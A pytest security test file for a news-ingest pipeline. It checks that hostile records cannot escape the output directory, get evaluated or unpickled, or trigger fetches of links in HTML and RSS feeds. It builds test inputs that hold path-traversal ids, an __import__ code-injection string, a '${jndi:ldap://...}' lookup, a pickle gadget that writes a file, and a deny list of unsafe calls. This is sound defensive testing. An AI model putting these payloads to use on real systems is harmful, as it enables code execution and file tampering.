"""Hostile input stays data: no path escapes, nothing evaluated or unpickled, no page or feed link fetched."""
from __future__ import annotations

import ast
import ipaddress
import json
import pickle
import socket
from datetime import datetime, timezone
from pathlib import Path

import pytest

from flows.run_flow import dateline_run
from pipelines.ingest.feeds import read_feed_file
from pipelines.ingest.html import article_from_html
from pipelines.ingest.records import Article, Reject
from pipelines.storage.partitions import read_table
from tests.conftest import REPO

REMOTE_PAGE = """<!doctype html><html lang="en"><head>
<title>Council approves bridge plan</title>
<meta property="article:published_time" content="2022-01-19T08:00:00Z">
<base href="http://203.0.113.7/">
<meta http-equiv="refresh" content="0; url=http://203.0.113.7/elsewhere">
<link rel="stylesheet" href="http://203.0.113.7/style.css">
<link rel="canonical" href="https://news.example.org/bridge">
<script src="https://tracker.example.net/t.js"></script>
<style>@import url("http://203.0.113.7/more.css");</style>
</head><body><article>
<h1>Council approves bridge plan</h1>
<img src="http://203.0.113.7/photo.jpg" srcset="http://203.0.113.7/big.jpg 2x">
<iframe src="http://203.0.113.7/embed"></iframe>
<p>The city council approved the plan to rebuild the old bridge on Tuesday, officials said.</p>
<p>"We are confident the work will finish next year," Mayor Ana Ruiz told reporters after the vote.</p>
<p>Work is due to start in March and the road will stay open during construction, the council said.</p>
<object data="http://203.0.113.7/x.swf"></object><video src="http://203.0.113.7/v.mp4"></video>
</article></body></html>"""

FEED = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel>
<title>Courier</title><link>http://203.0.113.7/</link>
<atom:link href="http://203.0.113.7/feed?page=2" rel="next"/>
<item><title>Summary only</title><link>http://203.0.113.7/story-1</link>
<pubDate>Wed, 19 Jan 2022 08:00:00 GMT</pubDate>
<description>Read the full story at http://203.0.113.7/story-1 or the feed http://203.0.113.7/other.rss</description>
<enclosure url="http://203.0.113.7/audio.mp3" type="audio/mpeg" length="1"/></item>
<item><title>Full</title><link>http://203.0.113.7/story-2</link>
<pubDate>Wed, 19 Jan 2022 09:00:00 GMT</pubDate>
<content:encoded xmlns:content="http://purl.org/rss/1.0/modules/content/"><![CDATA[
<p>The council met on Tuesday. <img src="http://203.0.113.7/p.jpg"> Subscribe via
<a href="http://203.0.113.7/feed.xml">our feed</a>.</p>]]></content:encoded></item>
</channel></rss>"""


def _local(host) -> bool:
    if host in (None, "", "localhost"):
        return True
    try:
        return ipaddress.ip_address(str(host).split("%")[0]).is_loopback
    except ValueError:
        return False


@pytest.fixture
def remote_calls(monkeypatch) -> list:
    """Refuse (and record) every connection or name lookup that is not to this machine."""
    calls: list = []
    real_connect, real_connect_ex, real_lookup = socket.socket.connect, socket.socket.connect_ex, socket.getaddrinfo

    def allowed(sock, address) -> bool:
        return sock.family == socket.AF_UNIX or _local(address[0])

    def connect(sock, address):
        if not allowed(sock, address):
            calls.append(address)
            raise ConnectionRefusedError(f"test forbids network access to {address}")
        return real_connect(sock, address)

    def connect_ex(sock, address):
        if not allowed(sock, address):
            calls.append(address)
            return 111
        return real_connect_ex(sock, address)

    def getaddrinfo(host, *args, **kwargs):
        if not _local(host):
            calls.append(host)
            raise socket.gaierror(f"test forbids resolving {host}")
        return real_lookup(host, *args, **kwargs)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect_ex)
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    return calls


class Trap:
    """Unpickling this runs code that leaves a marker file: proof that something unpickled input."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.write_text, (self.marker, "unpickled"))


def hostile_lines(marker: Path) -> list[str | bytes]:
    payload = pickle.dumps(Trap(marker))
    evaluate = f"__import__('pathlib').Path({str(marker)!r}).write_text('evaluated')"
    base = {"published": "2022-01-19", "text": "The council met on Tuesday, officials said."}
    return [
        json.dumps({**base, "id": "../../escaped-id", "source": "../../../escaped-source",
                    "text": "Escape attempt one was filed on Monday."}),
        json.dumps({**base, "id": "/tmp/absolute-id", "source": "/etc/escaped-abs",
                    "text": "Escape attempt two was filed on Monday."}),
        json.dumps({**base, "id": "a/../../b\\..\\c", "source": "..",
                    "text": "Escape attempt three was filed on Monday."}),
        json.dumps({**base, "id": evaluate, "source": evaluate, "title": evaluate,
                    "text": f"He said: \"{evaluate}\" on Monday. {{{{7*7}}}} ${{jndi:ldap://203.0.113.7/a}}"}),
        json.dumps({**base, "id": "pickled", "text": "Pickle follows: " + payload.decode("latin-1")}),
        payload.replace(b"\n", b" "),  # a raw pickle as a line of its own
        json.dumps({"id": "paged", "published": "2022-01-19", "html": REMOTE_PAGE}),
    ]


def files_outside(root: Path, inside: Path) -> set[Path]:
    """Files and folders under ``root`` that are neither ``inside`` nor in it nor its parents."""
    return {p for p in root.rglob("*") if p != inside and inside not in p.parents and p not in inside.parents}


def test_hostile_records_stay_inert_text_inside_the_output(prefect_harness, tmp_path, remote_calls):
    marker = tmp_path / "executed.txt"
    source = tmp_path / "in" / "hostile.jsonl"
    source.parent.mkdir()
    source.write_bytes(b"\n".join(x if isinstance(x, bytes) else x.encode() for x in hostile_lines(marker)) + b"\n")
    out = tmp_path / "deep" / "er" / "out"
    before = files_outside(tmp_path, out)
    dateline_run(inputs=[str(source)], output=str(out))
    assert not marker.exists(), "input was evaluated or unpickled"
    assert files_outside(tmp_path, out) == before, "the run wrote outside its output directory"
    assert not list(tmp_path.parent.glob("escaped*")) and not Path("/tmp/absolute-id").exists()
    for path in out.rglob("*"):
        assert path.resolve().is_relative_to(out.resolve())
        assert "escaped" not in path.name and "absolute-id" not in path.name
    articles = {r["article_id"]: r for r in read_table(out, "articles").to_pylist()}
    assert {"../../escaped-id", "/tmp/absolute-id", "a/../../b\\..\\c", "pickled", "paged"} <= set(articles)
    assert articles["../../escaped-id"]["source"] == "../../../escaped-source"
    evaluate = next(a for a in articles.values() if a["article_id"].startswith("__import__"))
    assert "__import__('pathlib')" in evaluate["text"] and "{{7*7}}" in evaluate["text"]
    assert "Pickle follows" in articles["pickled"]["text"]
    assert any(r["record_ref"].endswith(":6") for r in read_table(out, "rejects").to_pylist())
    assert remote_calls == []


def test_html_is_parsed_never_fetched(remote_calls):
    page = article_from_html(REMOTE_PAGE.encode(), source="s", record_ref="page.html",
                             url="http://203.0.113.7/bridge")
    assert isinstance(page, Article), page
    assert "Mayor Ana Ruiz" in page.text and page.published_at == datetime(2022, 1, 19, 8, tzinfo=timezone.utc)
    assert remote_calls == []


def test_feed_entries_never_lead_to_fetches(tmp_path, remote_calls):
    feed = tmp_path / "courier.rss"
    feed.write_text(FEED, encoding="utf-8")
    records = list(read_feed_file(feed))
    assert [type(r) for r in records] == [Reject, Article]
    assert "summary only" in records[0].reason
    assert "council met on Tuesday" in records[1].text
    assert remote_calls == []


UNSAFE_CALLS = {"eval", "exec", "__import__", "compile"}
UNSAFE_ATTRIBUTES = {("pickle", "load"), ("pickle", "loads"), ("marshal", "load"), ("marshal", "loads"),
                     ("dill", "load"), ("dill", "loads"), ("cloudpickle", "loads"), ("shelve", "open"),
                     ("yaml", "load"), ("yaml", "unsafe_load"), ("pd", "read_pickle"), ("pandas", "read_pickle")}


def test_no_code_path_evaluates_or_unpickles():
    """Static check of our own code: no eval/exec, no unpickling, no unsafe YAML anywhere."""
    found = []
    for package in ("pipelines", "flows", "schemas"):
        for path in (REPO / package).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if not isinstance(node, ast.Call):
                    continue
                func = node.func
                if isinstance(func, ast.Name) and func.id in UNSAFE_CALLS:
                    found.append(f"{path}:{node.lineno} {func.id}()")
                if (isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name)
                        and (func.value.id, func.attr) in UNSAFE_ATTRIBUTES):
                    found.append(f"{path}:{node.lineno} {func.value.id}.{func.attr}()")
    assert found == []
